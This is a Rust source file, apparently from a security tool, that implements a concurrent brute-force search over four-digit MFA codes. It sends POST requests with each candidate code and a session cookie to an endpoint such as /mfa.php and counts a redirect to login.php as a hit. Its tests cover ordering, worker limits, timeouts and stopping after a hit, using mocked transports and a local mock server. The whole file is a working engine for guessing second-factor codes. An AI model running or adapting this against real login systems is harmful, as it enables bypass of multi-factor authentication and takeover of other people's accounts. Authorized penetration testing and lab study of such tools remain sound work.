use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use futures::future;
use futures::stream::{self, StreamExt};
use tracing::{debug, info, instrument, warn};

use super::SearchOutcome;
use crate::client::AsyncRequests;
use crate::config::SearchConfig;
use crate::corpora::CodeRange;
use crate::deciders::{Decider, RedirectDecider};
use crate::error::SweepError;
use crate::events::{EventPublisher, MissingPlaceholder, SearchStarted, StopSearching};
use crate::mutators::{CodeFieldMutator, Mutator};
use crate::requests::{Request, RequestId, RequestTemplate};
use crate::state::SharedState;
use crate::{atomic_increment, atomic_load};

/// A coordinator that sends attempts asynchronously, with at most `workers` of
/// them in flight at any given time
///
/// candidates are dispatched in ascending order; whether or not a code has been
/// found is checked right before each dispatch, so nothing new goes out once a hit
/// is recorded. Attempts already in flight are allowed to finish.
#[derive(Clone, Debug)]
pub struct SearchCoordinator<A, D = RedirectDecider, M = CodeFieldMutator>
where
    A: AsyncRequests,
    D: Decider,
    M: Mutator,
{
    pub(super) workers: usize,
    pub(super) client: A,
    pub(super) template: RequestTemplate,
    pub(super) candidates: CodeRange,
    pub(super) mutator: M,
    pub(super) decider: Arc<D>,
    pub(super) timeout: Duration,
}

impl<A> SearchCoordinator<A>
where
    A: AsyncRequests,
{
    /// create a new coordinator whose candidates, workers, timeout, mutator and
    /// decider all come from `config`
    ///
    /// # Errors
    ///
    /// returns [`SweepError::InvalidParameter`] when `config` doesn't describe a
    /// valid candidate range
    pub fn from_config(
        config: &SearchConfig,
        client: A,
        template: RequestTemplate,
    ) -> Result<Self, SweepError> {
        Ok(Self::new(
            config.workers,
            client,
            template,
            config.candidates()?,
            config.mutator(),
            config.decider(),
            config.timeout(),
        ))
    }
}

impl<A, D, M> SearchCoordinator<A, D, M>
where
    A: AsyncRequests,
    D: Decider,
    M: Mutator,
{
    /// create a new coordinator
    ///
    /// # Note
    ///
    /// the `workers` parameter dictates the maximum number of asynchronous
    /// attempts allowed to be actively executing at any given time
    pub fn new(
        workers: usize,
        client: A,
        template: RequestTemplate,
        candidates: CodeRange,
        mutator: M,
        decider: D,
        timeout: Duration,
    ) -> Self {
        Self {
            workers,
            client,
            template,
            candidates,
            mutator,
            decider: Arc::new(decider),
            timeout,
        }
    }

    /// maximum number of attempts in flight
    pub const fn workers(&self) -> usize {
        self.workers
    }

    /// the template every attempt is built from
    pub const fn template(&self) -> &RequestTemplate {
        &self.template
    }

    /// the candidate space
    pub const fn candidates(&self) -> &CodeRange {
        &self.candidates
    }

    fn build_request(&self, index: usize, candidate: &str) -> Request {
        self.template
            .build_request(RequestId::new(index), candidate, &self.mutator, self.timeout)
    }
}

impl<A, D, M> SearchCoordinator<A, D, M>
where
    A: AsyncRequests + Clone + 'static,
    D: Decider + 'static,
    M: Mutator,
{
    /// run the search to completion
    ///
    /// # Errors
    ///
    /// returns [`SweepError::PoisonedState`] if the shared state couldn't be read
    /// once every attempt finished
    #[instrument(skip_all, fields(workers = self.workers, candidates = %self.candidates), name = "search-loop", level = "trace")]
    pub async fn search(&self, state: &SharedState) -> Result<SearchOutcome, SweepError> {
        let total = self.candidates.len();

        if !self.mutator.matches(self.template.body()) {
            warn!(
                field = self.mutator.target(),
                "the request body has no placeholder for the code; every attempt sends the same body"
            );

            state.events().notify(MissingPlaceholder {
                field: self.mutator.target().to_string(),
            });
        }

        if !self.template.method().eq_ignore_ascii_case("POST") {
            debug!(
                method = self.template.method(),
                "request line method is ignored; attempts are sent as POST"
            );
        }

        state.events().notify(SearchStarted {
            total,
            workers: self.workers,
        });

        state.start_timer();

        let dispatched = AtomicUsize::new(0);

        stream::iter(self.candidates.iter().enumerate())
            .take_while(|_| {
                let found = state.is_found();

                // the first `false` ends the stream, so this fires at most once
                if found {
                    let dispatched = atomic_load!(dispatched);

                    debug!(dispatched, "code found; no further candidates are dispatched");
                    state.events().notify(StopSearching { dispatched });
                }

                future::ready(!found)
            })
            .map(|(index, candidate)| {
                let request = self.build_request(index, &candidate);

                let client = self.client.clone();
                let decider = self.decider.clone();
                let c_state = state.clone();

                atomic_increment!(dispatched);

                tokio::spawn(async move {
                    let response = client.send(request).await;

                    let success = match response {
                        Ok(response) => {
                            c_state.update(&response);
                            decider.decide(&response).is_hit()
                        }
                        Err(error) => {
                            // a transport failure only costs this one candidate
                            debug!(%candidate, %error, "attempt failed");
                            c_state.update_from_error(&error);
                            false
                        }
                    };

                    let record = c_state.record_attempt(&candidate, success)?;

                    if record.is_first_hit() {
                        info!(%candidate, tested = record.tested(), "valid code found");
                    } else if success {
                        info!(%candidate, "additional hit ignored; a code was already found");
                    }

                    Ok::<_, SweepError>(())
                })
            })
            .for_each_concurrent(self.workers.max(1), |handle| async move {
                match handle.await {
                    Ok(Ok(())) => {}
                    Ok(Err(error)) => {
                        warn!(%error, "could not record the attempt");
                    }
                    Err(error) => {
                        // cancelled or panicked; it never reached the tally
                        warn!("Task failed to execute to completion: {:?}", error);
                    }
                }
            })
            .await;

        debug!(dispatched = atomic_load!(dispatched), total, "search loop finished");

        if let Ok(stats) = state.stats().read() {
            debug!(%stats, "search statistics");
        }

        state.finish(total)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::{AsyncClient, AsyncRequests};
    use crate::coordinator::start_bruteforce;
    use crate::events::{AttemptCompleted, CodeFound, Exhausted};
    use crate::responses::Response;
    use async_trait::async_trait;
    use httpmock::prelude::*;
    use std::collections::HashMap;
    use std::sync::Mutex;

    const RAW: &str = "POST /mfa.php HTTP/1.1\nHost: target.local\nCookie: PHPSESSID=abc\n\ncode=0000&submit=1";

    /// answers with a successful redirect for each candidate in `hits`, and a plain
    /// 200 for everything else
    #[derive(Clone, Default)]
    struct ScriptedTransport {
        hits: Arc<Vec<String>>,
        hit_everything: bool,
        sent: Arc<AtomicUsize>,
        bodies: Arc<Mutex<Vec<String>>>,
    }

    impl ScriptedTransport {
        fn hitting(hits: &[&str]) -> Self {
            Self {
                hits: Arc::new(hits.iter().map(ToString::to_string).collect()),
                ..Self::default()
            }
        }

        fn sent(&self) -> usize {
            self.sent.load(Ordering::SeqCst)
        }
    }

    #[async_trait]
    impl AsyncRequests for ScriptedTransport {
        async fn send(&self, request: Request) -> Result<Response, SweepError> {
            self.sent.fetch_add(1, Ordering::SeqCst);
            self.bodies.lock().unwrap().push(request.body().to_string());

            tokio::task::yield_now().await;

            let hit = self.hit_everything || self.hits.iter().any(|c| c == request.candidate());

            let mut headers = HashMap::new();

            if hit {
                headers.insert("Location".to_string(), b"login.php".to_vec());
                return Ok(Response::new(request.id(), 302, headers, Duration::ZERO));
            }

            headers.insert("Location".to_string(), b"mfa.php".to_vec());
            Ok(Response::new(request.id(), 200, headers, Duration::ZERO))
        }
    }

    /// every send fails at the transport level
    #[derive(Clone, Default)]
    struct BrokenTransport {
        sent: Arc<AtomicUsize>,
    }

    #[async_trait]
    impl AsyncRequests for BrokenTransport {
        async fn send(&self, _request: Request) -> Result<Response, SweepError> {
            self.sent.fetch_add(1, Ordering::SeqCst);

            Err(SweepError::RequestError {
                kind: crate::error::RequestErrorKind::Timeout,
                message: "timed out".to_string(),
            })
        }
    }

    fn count_found(state: &SharedState) -> Arc<AtomicUsize> {
        let found = Arc::new(AtomicUsize::new(0));
        let counter = found.clone();

        state.events().subscribe(move |_: CodeFound| {
            counter.fetch_add(1, Ordering::SeqCst);
        });

        found
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn finds_the_single_accepted_code() -> Result<(), SweepError> {
        let transport = ScriptedTransport::hitting(&["4242"]);
        let state = SharedState::new();
        let found = count_found(&state);

        let outcome =
            start_bruteforce(RAW, &SearchConfig::default(), transport.clone(), &state).await?;

        assert_eq!(outcome.candidate(), Some("4242"));
        assert!(outcome.tested() >= 1 && outcome.tested() <= 9000);
        assert_eq!(found.load(Ordering::SeqCst), 1);
        assert!(state.is_found());
        assert_eq!(state.winner().as_deref(), Some("4242"));

        // 1000..=4242 must all have been dispatched before 4242 could be
        assert!(transport.sent() >= 3243);
        assert!(transport
            .bodies
            .lock()
            .unwrap()
            .iter()
            .any(|body| body == "code=4242&submit=1"));
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn every_candidate_accepted_reports_exactly_one_hit() -> Result<(), SweepError> {
        let transport = ScriptedTransport {
            hit_everything: true,
            ..ScriptedTransport::default()
        };
        let state = SharedState::new();
        let found = count_found(&state);

        let outcome =
            start_bruteforce(RAW, &SearchConfig::default(), transport.clone(), &state).await?;

        assert!(matches!(outcome, SearchOutcome::Found { .. }));
        assert_eq!(found.load(Ordering::SeqCst), 1);

        // dispatching stops early; at most the first batch plus stragglers went out
        assert!(transport.sent() < 9000);
        assert_eq!(state.tested(), transport.sent());
        Ok(())
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn exhausts_the_space_without_a_hit() -> Result<(), SweepError> {
        let transport = ScriptedTransport::default();
        let state = SharedState::new();
        let found = count_found(&state);

        let exhausted = Arc::new(AtomicUsize::new(0));
        let seen = exhausted.clone();
        state.events().subscribe(move |event: Exhausted| {
            seen.store(event.tested, Ordering::SeqCst);
        });

        let outcome =
            start_bruteforce(RAW, &SearchConfig::default(), transport.clone(), &state).await?;

        assert_eq!(outcome, SearchOutcome::Exhausted { tested: 9000 });
        assert_eq!(transport.sent(), 9000);
        assert_eq!(exhausted.load(Ordering::SeqCst), 9000);
        assert_eq!(found.load(Ordering::SeqCst), 0);
        assert!(!state.is_found());

        let mut bodies = transport.bodies.lock().unwrap().clone();
        bodies.sort();
        bodies.dedup();
        assert_eq!(bodies.len(), 9000);
        assert_eq!(bodies.first().map(String::as_str), Some("code=1000&submit=1"));
        assert_eq!(bodies.last().map(String::as_str), Some("code=9999&submit=1"));
        Ok(())
    }

    #[tokio::test]
    async fn transport_failures_count_as_misses() -> Result<(), SweepError> {
        let transport = BrokenTransport::default();
        let state = SharedState::new();

        let config = SearchConfig {
            start: 1000,
            end: 1099,
            ..SearchConfig::default()
        };

        let outcome = start_bruteforce(RAW, &config, transport.clone(), &state).await?;

        assert_eq!(outcome, SearchOutcome::Exhausted { tested: 100 });
        assert_eq!(transport.sent.load(Ordering::SeqCst), 100);

        let stats = state.stats();
        let stats = stats.read().unwrap();
        assert_eq!(stats.errors(), 100);
        assert_eq!(stats.timeouts(), 100);
        Ok(())
    }

    #[tokio::test]
    async fn malformed_requests_never_reach_the_transport() {
        let transport = ScriptedTransport::default();
        let state = SharedState::new();

        let no_host = "POST /mfa.php HTTP/1.1\nCookie: a=b\n\ncode=1234";
        let bad_line = "POST /mfa.php\nHost: target.local\n\ncode=1234";

        for raw in [no_host, bad_line, ""] {
            let result = start_bruteforce(raw, &SearchConfig::default(), transport.clone(), &state)
                .await;

            assert!(result.unwrap_err().is_malformed_request());
        }

        assert_eq!(transport.sent(), 0);
        assert_eq!(state.tested(), 0);
    }

    #[tokio::test]
    async fn invalid_config_never_reaches_the_transport() {
        let transport = ScriptedTransport::default();
        let state = SharedState::new();

        let config = SearchConfig {
            workers: 0,
            ..SearchConfig::default()
        };

        let result = start_bruteforce(RAW, &config, transport.clone(), &state).await;

        assert!(matches!(
            result,
            Err(SweepError::InvalidParameter { .. })
        ));
        assert_eq!(transport.sent(), 0);
    }

    #[tokio::test]
    async fn concurrency_never_exceeds_the_worker_count() -> Result<(), SweepError> {
        #[derive(Clone, Default)]
        struct Gauge {
            current: Arc<AtomicUsize>,
            peak: Arc<AtomicUsize>,
        }

        #[async_trait]
        impl AsyncRequests for Gauge {
            async fn send(&self, request: Request) -> Result<Response, SweepError> {
                let now = self.current.fetch_add(1, Ordering::SeqCst) + 1;
                self.peak.fetch_max(now, Ordering::SeqCst);

                tokio::time::sleep(Duration::from_millis(1)).await;

                self.current.fetch_sub(1, Ordering::SeqCst);
                Ok(Response::new(request.id(), 200, HashMap::new(), Duration::ZERO))
            }
        }

        let gauge = Gauge::default();
        let state = SharedState::new();
        let template = RequestTemplate::parse(RAW)?;

        let coordinator = SearchCoordinator::new(
            3,
            gauge.clone(),
            template,
            CodeRange::new(0, 59, 2)?,
            CodeFieldMutator::default(),
            RedirectDecider::default(),
            Duration::from_secs(1),
        );

        let outcome = coordinator.search(&state).await?;

        assert_eq!(outcome.tested(), 60);
        assert!(gauge.peak.load(Ordering::SeqCst) <= 3);
        Ok(())
    }

    #[tokio::test]
    async fn missing_placeholder_is_reported_but_searched() -> Result<(), SweepError> {
        let transport = ScriptedTransport::default();
        let state = SharedState::new();

        let missing = Arc::new(Mutex::new(None));
        let seen = missing.clone();
        state.events().subscribe(move |event: MissingPlaceholder| {
            *seen.lock().unwrap() = Some(event.field);
        });

        let ticks = Arc::new(AtomicUsize::new(0));
        let counter = ticks.clone();
        state.events().subscribe(move |_: AttemptCompleted| {
            counter.fetch_add(1, Ordering::SeqCst);
        });

        let raw = "POST /mfa.php HTTP/1.1\nHost: target.local\n\notp=123456";
        let config = SearchConfig {
            start: 1000,
            end: 1009,
            ..SearchConfig::default()
        };

        let outcome = start_bruteforce(raw, &config, transport.clone(), &state).await?;

        assert_eq!(outcome, SearchOutcome::Exhausted { tested: 10 });
        assert_eq!(missing.lock().unwrap().as_deref(), Some("code"));
        assert_eq!(ticks.load(Ordering::SeqCst), 10);
        assert!(transport
            .bodies
            .lock()
            .unwrap()
            .iter()
            .all(|body| body == "otp=123456"));
        Ok(())
    }

    /// the first candidate is accepted at once; everything else lingers
    #[derive(Clone)]
    struct FirstIsInstant;

    #[async_trait]
    impl AsyncRequests for FirstIsInstant {
        async fn send(&self, request: Request) -> Result<Response, SweepError> {
            let mut headers = HashMap::new();
            headers.insert("location".to_string(), b"login.php".to_vec());

            if request.candidate() == "1000" {
                return Ok(Response::new(request.id(), 302, headers, Duration::ZERO));
            }

            tokio::time::sleep(Duration::from_millis(200)).await;
            Ok(Response::new(request.id(), 200, headers, Duration::ZERO))
        }
    }

    #[tokio::test]
    async fn stop_is_published_while_attempts_are_still_in_flight() -> Result<(), SweepError> {
        let state = SharedState::new();
        let log = Arc::new(Mutex::new(Vec::new()));

        let ticks = log.clone();
        state.events().subscribe(move |event: AttemptCompleted| {
            ticks.lock().unwrap().push(format!("tick:{}", event.candidate));
        });

        let stops = log.clone();
        state.events().subscribe(move |event: StopSearching| {
            stops.lock().unwrap().push(format!("stop:{}", event.dispatched));
        });

        let config = SearchConfig {
            start: 1000,
            end: 1099,
            workers: 10,
            ..SearchConfig::default()
        };

        let outcome = start_bruteforce(RAW, &config, FirstIsInstant, &state).await?;

        assert_eq!(
            outcome,
            SearchOutcome::Found {
                candidate: "1000".to_string(),
                tested: 10
            }
        );

        let log = log.lock().unwrap();

        // the hit, then the stop with only the first batch dispatched, then the stragglers
        assert_eq!(log.len(), 11);
        assert_eq!(log[0], "tick:1000");
        assert_eq!(log[1], "stop:10");
        assert!(log[2..].iter().all(|entry| entry.starts_with("tick:10")));
        Ok(())
    }

    #[tokio::test]
    async fn no_stop_when_nothing_is_found() -> Result<(), SweepError> {
        let state = SharedState::new();
        let stops = Arc::new(AtomicUsize::new(0));

        let counter = stops.clone();
        state.events().subscribe(move |_: StopSearching| {
            counter.fetch_add(1, Ordering::SeqCst);
        });

        let config = SearchConfig {
            start: 1000,
            end: 1019,
            ..SearchConfig::default()
        };

        start_bruteforce(RAW, &config, ScriptedTransport::default(), &state).await?;

        assert_eq!(stops.load(Ordering::SeqCst), 0);
        Ok(())
    }

    #[tokio::test]
    async fn candidates_are_dispatched_in_ascending_order() -> Result<(), SweepError> {
        for workers in [1, 50] {
            let transport = ScriptedTransport::default();
            let state = SharedState::new();

            let config = SearchConfig {
                start: 1000,
                end: 1199,
                workers,
                ..SearchConfig::default()
            };

            start_bruteforce(RAW, &config, transport.clone(), &state).await?;

            let bodies = transport.bodies.lock().unwrap();

            assert_eq!(bodies.len(), 200);
            assert_eq!(bodies[0], "code=1000&submit=1");
            // fixed width, so string order is numeric order
            assert!(
                bodies.windows(2).all(|pair| pair[0] < pair[1]),
                "out of order with {workers} workers"
            );
        }
        Ok(())
    }

    #[tokio::test]
    async fn timed_out_attempts_are_misses_and_the_search_goes_on() -> Result<(), SweepError> {
        let server = MockServer::start_async().await;

        // would be a hit, but only after the per-request timeout
        let slow = server
            .mock_async(|when, then| {
                when.method(POST).path("/mfa.php").body("code=1000");
                then.status(302)
                    .header("Location", "login.php")
                    .delay(Duration::from_secs(3));
            })
            .await;

        let accepted = server
            .mock_async(|when, then| {
                when.method(POST).path("/mfa.php").body("code=1001");
                then.status(302).header("Location", "login.php");
            })
            .await;

        let raw = format!("POST /mfa.php HTTP/1.1\nHost: {}\n\ncode=0000", server.address());
        let config = SearchConfig {
            start: 1000,
            end: 1001,
            workers: 1,
            timeout_secs: 1,
            ..SearchConfig::default()
        };

        let state = SharedState::new();
        let client = AsyncClient::from_config(&config)?;

        let outcome = start_bruteforce(&raw, &config, client, &state).await?;

        slow.assert_hits_async(1).await;
        accepted.assert_hits_async(1).await;
        assert_eq!(
            outcome,
            SearchOutcome::Found {
                candidate: "1001".to_string(),
                tested: 2
            }
        );

        let stats = state.stats();
        let stats = stats.read().unwrap();
        assert_eq!(stats.timeouts(), 1);
        Ok(())
    }
}
